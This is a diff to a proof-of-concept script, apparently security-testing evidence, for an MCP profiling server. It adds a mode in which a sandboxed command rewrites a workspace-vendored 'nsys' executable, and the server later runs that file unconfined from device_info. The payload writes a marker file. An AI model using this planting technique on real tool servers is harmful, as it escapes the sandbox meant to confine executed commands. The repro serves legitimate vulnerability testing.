@@ -9,7 +9,8 @@ Python process started from that venv afterwards runs it at start-up, the sandbo
 (``python -P -m kprof_mcp.sandbox``, unconfined, the server's user) first. The payload there writes a file
 outside the workspace.
 
-Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path]
+Usage (repository root): .venv/bin/python docs/evidence/sandbox/probe10/repro_selfws.py [pth|source|pythonpath|path|nsysenv]
+(nsysenv: KPROF_NSYS names tools/nsys in the workspace; the command rewrites it, device_info runs it)
 (path: the workspace's venv activated, its bin/ first on the server's PATH: the command plants bin/nvidia-smi,
 mode 0755 at creation, which the server itself runs at the next job's preflight)
 (pythonpath: no venv in the workspace; the server's PYTHONPATH names the workspace's src/, where the command
@@ -47,7 +48,11 @@ try:
     print("control: wrote outside directly (NOT confined?)")
 except OSError as e:
     print("control: outside write refused:", e)
-if {HOW!r} == "path":
+if {HOW!r} == "nsysenv":
+    target = os.path.join(ws, "tools", "nsys")
+    with open(target, "w") as f:  # rewritten in place: its mode (0755) stays
+        f.write('#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi-or-nsys nsys $*" >> {PWNED}\\nexit 1\\n')
+elif {HOW!r} == "path":
     target = os.path.join(ws, ".venv", "bin", "nvidia-smi")
     fd = os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)  # its mode at creation: no chmod
     os.write(fd, b'#!/bin/sh\\necho "pid $$ uid $(id -u) argv nvidia-smi $*" >> {PWNED}\\nexit 1\\n')
@@ -84,6 +89,10 @@ def setup() -> None:
     (WS / ".venv" / SITE / "_kp10_path.pth").write_text(f"{WS}\n{REPO / '.venv' / SITE}\n")
     (WS / "kp10" / "selfmod.py").write_text(ATTACK)
     (WS / "kp10" / "hello.py").write_text("print('hello')\n")
+    (WS / "tools").mkdir()
+    fd = os.open(WS / "tools" / "nsys", os.O_WRONLY | os.O_CREAT, 0o755)
+    os.write(fd, b"#!/bin/sh\necho 'NVIDIA Nsight Systems version 2025.3.1.90-1'\n")
+    os.close(fd)
     (WS / "src").mkdir()  # the project's own import path (PYTHONPATH=src in the server's environment)
 
 
@@ -98,9 +107,17 @@ async def main() -> str:
         HOW == "pythonpath"
     ):  # kprof from the checkout's venv; the operator's PYTHONPATH names the project's src/
         env["PYTHONPATH"] = f"{WS / 'src'}:{WS}"
+    if (
+        HOW == "nsysenv"
+    ):  # the operator's KPROF_NSYS names an Nsight Systems vendored in the project (tools/nsys)
+        env["KPROF_NSYS"] = str(WS / "tools" / "nsys")
     if HOW == "path":  # the workspace's venv activated in the shell that started the server
         env["PATH"] = f"{WS / '.venv' / 'bin'}:{env['PATH']}"
-    py = REPO / ".venv" / "bin" / "python" if HOW == "pythonpath" else WS / ".venv" / "bin" / "python"
+    py = (
+        REPO / ".venv" / "bin" / "python"
+        if HOW in ("pythonpath", "nsysenv")
+        else WS / ".venv" / "bin" / "python"
+    )
     params = StdioServerParameters(
         command=str(py),
         args=["-m", "kprof_mcp", "--workspace", str(WS), "--allow-commands"],
@@ -109,6 +126,14 @@ async def main() -> str:
     )
     async with Client(params) as c:
         for argv in (["python", "kp10/selfmod.py"], ["python", "kp10/hello.py"]):
+            if HOW == "nsysenv" and argv[1] == "kp10/hello.py":
+                r = await c.call_tool("device_info", {})
+                print(
+                    "--- device_info:",
+                    r.is_error,
+                    "\n".join(getattr(x, "text", "") for x in r.content or [])[:300],
+                )
+                continue
             r = await c.call_tool("profile_command", {"command": argv, "mode": "event", "wait_s": 50})
             sc = r.structured_content or {}
             while sc.get("status") in ("queued", "running"):
